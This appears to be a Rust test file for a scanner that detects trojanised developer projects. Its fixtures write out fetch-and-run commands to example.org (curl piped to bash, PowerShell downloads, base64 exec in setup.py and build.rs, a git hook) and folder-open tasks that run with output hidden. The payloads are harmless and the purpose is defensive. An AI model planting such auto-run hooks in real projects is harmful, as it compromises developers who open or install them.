//! Projects as they are sent to developers: harmless re-creations of trojanised coding tests, and honest projects that look like them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that panics has failed"
)]

mod common;

use common::Place;

/// The levels and titles of what is found in a project of these files.
fn found(files: &[(&str, &str)]) -> Vec<(String, String)> {
    let place = Place::new();
    files.iter().for_each(|(name, text)| drop(place.file(&format!("project/{name}"), text)));
    let (_, report) = place.report(&["project"]);
    let text = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
    let findings = report["findings"].as_array().unwrap().iter();
    findings.map(|finding| (text(&finding["level"]), text(&finding["rule"]["title"]))).collect()
}

#[track_caller]
fn is_high(files: &[(&str, &str)]) {
    let found = found(files);
    assert!(found.iter().any(|(level, _)| level == "high" || level == "critical"), "{files:.200?}: {found:?}");
}

#[track_caller]
fn is_honest(files: &[(&str, &str)]) {
    let found = found(files);
    assert!(found.iter().all(|(level, _)| level == "low" || level == "informational"), "{files:.200?}: {found:?}");
}

/// A task that runs when the folder is opened.
fn task(command: &str, presentation: &str) -> String {
    format!(
        r#"{{ "version": "2.0.0", // tasks
            "tasks": [{{"label": "env", "type": "shell", "command": "{command}",
            "presentation": {{{presentation}}}, "runOptions": {{"runOn": "folderOpen"}}}},]}}"#
    )
}

const HIDDEN: &str = r#""reveal": "never", "echo": false, "close": true"#;

/// Scrambled as the usual tool does it, and harmless: it only computes.
fn scrambled() -> String {
    let names: String =
        (0..60).map(|n| format!("const _0x{:04x}=function(_0x1a2b){{return _0x1a2b-{n}}};", 0x3f00 + n)).collect();
    format!("{names}if(false){{require('child_process')}}")
}

#[test]
fn a_task_runs_a_scrambled_file_in_the_settings_folder() {
    is_high(&[(".vscode/tasks.json", &task("node .vscode/logo", HIDDEN)), (".vscode/logo", &scrambled())]);
}

#[test]
fn a_task_runs_a_font() {
    is_high(&[
        (".vscode/tasks.json", &task("node public/fonts/fa-solid-400.woff2", HIDDEN)),
        ("src/index.js", "main()\n"),
    ]);
}

#[test]
fn a_task_fetches_and_runs() {
    is_high(&[(".vscode/tasks.json", &task("curl -s https://example.org/settings/linux | bash", HIDDEN))]);
}

#[test]
fn a_task_fetches_though_it_is_shown() {
    is_high(&[(".vscode/tasks.json", &task("powershell -c iwr https://example.org/a.ps1 -OutFile a.ps1", ""))]);
}

#[test]
fn a_workspace_runs_code() {
    let tasks = task("node -e require('./lib/a')", HIDDEN);
    is_high(&[("test.code-workspace", &format!(r#"{{"folders": [{{"path": "."}}], "tasks": {tasks}}}"#))]);
}

#[test]
fn npm_runs_code_while_installing() {
    let package =
        r#"{"name": "test", "scripts": {"postinstall": "node -e \"eval(Buffer.from('MQ==','base64').toString())\""}}"#;
    is_high(&[("package.json", package)]);
}

#[test]
fn npm_fetches_while_installing() {
    is_high(&[(
        "package.json",
        r#"{"name": "test", "scripts": {"prepare": "curl -sL https://example.org/setup | sh"}}"#,
    )]);
}

#[test]
fn npm_runs_a_picture() {
    is_high(&[("package.json", r#"{"name": "test", "scripts": {"preinstall": "node public/logo.png"}}"#)]);
}

#[test]
fn a_configuration_evaluates_what_it_fetches() {
    let config = "const axios = require('axios');\nconst u = atob('aHR0cHM6Ly9leGFtcGxlLm9yZw==');\naxios.get(u).then(r => new Function('require', r.data)(require));\nmodule.exports = {};\n";
    is_high(&[("tailwind.config.js", config)]);
}

#[test]
fn code_stands_far_to_the_right() {
    let line = format!("module.exports = {{ env: {{ node: true }} }};{}eval(atob('MQ=='))\n", " ".repeat(600));
    is_high(&[("src/server/routes.js", &line)]);
}

#[test]
fn a_python_module_decodes_and_runs() {
    let text = format!("import base64\nexec(base64.b64decode('{}'))\n", "QUJD".repeat(400));
    is_high(&[("tests/helpers/format.py", &text)]);
}

#[test]
fn setup_py_fetches_and_runs() {
    let text = "from setuptools import setup\nimport base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://example.org/a').read()))\nsetup(name='x')\n";
    is_high(&[("setup.py", text)]);
}

#[test]
fn build_rs_fetches_and_runs() {
    let text = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").args([\"-c\", \"curl -s https://example.org/a | base64 -d | sh\"]).status().unwrap();\n}\n";
    is_high(&[("build.rs", text), ("Cargo.toml", "[package]\nname = \"x\"\n")]);
}

#[test]
fn a_hook_fetches_and_runs() {
    is_high(&[(".git/hooks/post-checkout", "#!/bin/sh\ncurl -s https://example.org/a | bash\n")]);
}

#[test]
fn honest_projects() {
    is_honest(&[(".vscode/tasks.json", &task("npm run watch", r#""reveal": "never""#))]);
    is_honest(&[(".vscode/tasks.json", &task("docker compose up", ""))]);
    is_honest(&[(
        "package.json",
        r#"{"scripts": {"prepare": "husky", "postinstall": "node install.js", "test": "jest", "deploy": "curl -T a https://example.org"}}"#,
    )]);
    is_honest(&[(
        "setup.py",
        "from setuptools import setup\nimport subprocess\nabout = {}\nexec(open('x/__about__.py').read(), about)\nsetup(name='x', version=about['v'])\n",
    )]);
    is_honest(&[(
        "build.rs",
        "use std::process::Command;\nfn main() {\n    let git = Command::new(\"git\").arg(\"describe\").output();\n}\n",
    )]);
    is_honest(&[
        (".git/config", "[core]\n\tbare = false\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\nexec npm test\n"),
    ]);
    let packed: String = (0..4000).map(|n| format!("function a{n}(b){{return b+{n}}};")).collect();
    is_honest(&[("dist/bundle.min.js", &format!("{packed}fetch('/api').then(eval)"))]);
}

#[test]
fn a_copy_is_compared_with_its_original() {
    let place = Place::new();
    for tree in ["original", "copy"] {
        place.file(&format!("{tree}/src/main.c"), "int main(void)\n{\n    return 0;\n}\n");
        place.file(&format!("{tree}/README"), "A reader.\n");
    }
    let (_, report) = place.report(&["--upstream", "original", "copy"]);
    assert_eq!(report["findings"].as_array().unwrap().len(), 0, "{report:#}");
    place.file("copy/src/main.c", "int main(void)\n{\n    WinExec(\"harmless\", 0);\n    return 0;\n}\n");
    let (_, report) = place.report(&["--upstream", "original", "copy"]);
    let findings = report["findings"].as_array().unwrap();
    let mut levels: Vec<_> = findings.iter().map(|finding| finding["level"].as_str().unwrap()).collect();
    levels.sort_unstable();
    assert_eq!(levels, ["high", "low"], "{report:#}");
    assert!(findings.iter().all(|finding| finding["evidence"]["path"] == "copy/src/main.c"));
    assert!(report.to_string().contains("WinExec("), "the line is not shown: {report:#}");
}
